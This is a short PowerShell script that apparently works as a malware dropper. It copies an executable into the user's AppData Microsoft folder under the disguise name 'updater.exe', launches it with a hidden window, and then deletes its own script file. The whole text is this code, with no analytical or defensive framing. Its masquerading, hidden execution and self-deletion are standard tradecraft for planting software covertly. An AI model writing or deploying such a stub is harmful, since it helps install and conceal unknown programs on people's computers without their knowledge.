$dst = Join-Path $env:APPDATA 'Microsoft\updater.exe'
Copy-Item .\updater.exe $dst -Force
Start-Process $dst -WindowStyle Hidden
Remove-Item -Force $MyInvocation.MyCommand.Path
